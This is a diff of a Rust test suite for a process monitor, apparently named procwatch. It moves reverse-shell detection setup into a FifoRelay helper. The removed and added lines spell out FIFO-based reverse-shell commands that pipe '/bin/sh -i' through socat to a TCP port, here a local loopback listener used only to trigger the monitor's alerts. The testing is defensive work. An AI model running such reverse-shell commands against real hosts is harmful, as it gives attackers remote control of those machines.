@@ -10,7 +10,9 @@ use std::{
     time::Duration,
 };
 
-use procwatch_tests::{Monitor, Pidfd, TempDir, has_rule, require_root, scratch_base};
+use procwatch_tests::{
+    FifoRelay, Monitor, Pidfd, TempDir, accept_one, has_rule, require_root, scratch_base,
+};
 
 fn have(tool: &str) -> bool {
     Command::new("sh")
@@ -18,11 +20,6 @@ fn have(tool: &str) -> bool {
         .stdout(Stdio::null())
         .status()
         .is_ok_and(|s| s.success())
-}
-
-/// Accepts one connection and keeps it open until the returned handle is joined.
-fn accept_one(listener: TcpListener) -> std::thread::JoinHandle<Option<TcpStream>> {
-    std::thread::spawn(move || listener.accept().ok().map(|(s, _)| s))
 }
 
 #[test]
@@ -84,30 +81,15 @@ fn a_shell_relayed_through_a_fifo_or_served_by_a_listener_is_a_reverse_shell() {
     let _ = quiet.wait();
 
     // 1. `sh -i < fifo | relay > fifo`: the relay is a sibling holding the connection.
-    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
-    let port = listener.local_addr().expect("addr").port();
-    let peer = accept_one(listener);
-    let script = format!(
-        "mkfifo {f}; /bin/sh -i < {f} 2>&1 | socat - TCP:127.0.0.1:{port} > {f}",
-        f = fifo.display()
-    );
-    let mut outer = Command::new("sh")
-        .args(["-c", &script])
-        .stdin(Stdio::null())
-        .stderr(Stdio::null())
-        .spawn()
-        .expect("sh");
-    let outer_pid = outer.id();
+    let relayed = FifoRelay::start(&fifo, |port| format!("socat - TCP:127.0.0.1:{port}"));
+    let outer_pid = relayed.pid();
     let a = m
         .wait_alert(Duration::from_secs(15), |a| {
             a["ppid"] == outer_pid && has_rule(a, "reverse_shell")
         })
         .unwrap_or_else(|| panic!("no relayed reverse shell; alerts: {:#?}", m.alerts()));
     assert!(a["reasons"].to_string().contains("socat"), "{a:#}");
-    let held = peer.join().ok().flatten();
-    drop(held);
-    let _ = outer.kill();
-    let _ = outer.wait();
+    relayed.end();
 
     // 2. Bind shell: socat accepts, then runs the shell on the connection.
     // A server port below the ephemeral range, as a real one would be.
@@ -234,29 +216,15 @@ fn a_relay_that_is_no_relative_or_connects_late_is_found_at_its_connect() {
     }
 
     // 2. A relative that connects late: the pipeline's relay waits 1.5 s, then connects.
-    let fifo = dir.0.join("f");
-    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
-    let port = listener.local_addr().expect("addr").port();
-    let peer = accept_one(listener);
-    let script = format!(
-        "mkfifo {f}; /bin/sh -i < {f} 2>&1 | (sleep 1.5; exec socat - TCP:127.0.0.1:{port}) > {f}",
-        f = fifo.display()
-    );
-    let mut outer = Command::new("sh")
-        .args(["-c", &script])
-        .stdin(Stdio::null())
-        .stderr(Stdio::null())
-        .spawn()
-        .expect("sh");
-    let outer_pid = outer.id();
+    let relayed = FifoRelay::start(&dir.0.join("f"), |port| {
+        format!("(sleep 1.5; exec socat - TCP:127.0.0.1:{port})")
+    });
+    let outer_pid = relayed.pid();
     let a = m
         .wait_alert(Duration::from_secs(30), |a| {
             a["ppid"] == outer_pid && has_rule(a, "reverse_shell")
         })
         .unwrap_or_else(|| panic!("no alert for the late relay: {:#?}", m.alerts()));
     assert!(a["reasons"].to_string().contains("socat"), "{a:#}");
-    let held = peer.join().ok().flatten();
-    drop(held);
-    let _ = outer.kill();
-    let _ = outer.wait();
+    relayed.end();
 }
